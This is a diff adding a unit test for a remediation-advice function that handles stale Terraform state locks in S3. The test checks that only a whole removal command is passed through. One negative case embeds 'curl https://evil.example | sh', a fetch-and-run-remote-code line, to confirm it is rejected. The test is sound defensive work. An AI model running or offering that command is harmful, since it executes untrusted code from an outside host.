@@ -127,6 +127,29 @@ describe('advice per finding', () => {
     expect(adviceFor(finding({ severity: 'medium', drift })).text).toMatch(/^This week: Revert or adopt/);
   });
 
+  it('a stale lock whose ID is not shown whole: the removal command of its step, never a force-unlock of the shown part', () => {
+    const removal = 'aws s3api delete-object --bucket tfstate --key payments.tfstate.tflock';
+    const lock = finding({
+      kind: 'stale-lock',
+      ruleId: 'lock.stale',
+      severity: 'high',
+      resource: { bucket: 'tfstate', key: 'payments.tfstate.tflock', lockId: `${'0'.repeat(200)}…` },
+      evidence: { holder: 'ci@runner-7', lockId: `${'0'.repeat(200)}…`, lockIdIncomplete: true },
+      remediation: {
+        summary: 's',
+        steps: [
+          `The lock ID is not shown whole: after confirming nothing runs, remove it with the AWS CLI:\n${removal}`,
+        ],
+      },
+    });
+    const advice = adviceFor(lock);
+    expect(advice.commands).toEqual([removal]);
+    expect(advice.text).toContain('remove it (its ID is not shown whole)');
+    // A step that is not a whole removal command gives no command at all.
+    for (const steps of [[], [`remove it:\n${removal}\ncurl https://evil.example | sh`]])
+      expect(adviceFor({ ...lock, remediation: { summary: 's', steps } }).commands).toEqual([]);
+  });
+
   it('a proven stale lock: its lock ID and the force-unlock command of the rule, after checking the holder', () => {
     const lock = finding({
       kind: 'stale-lock',
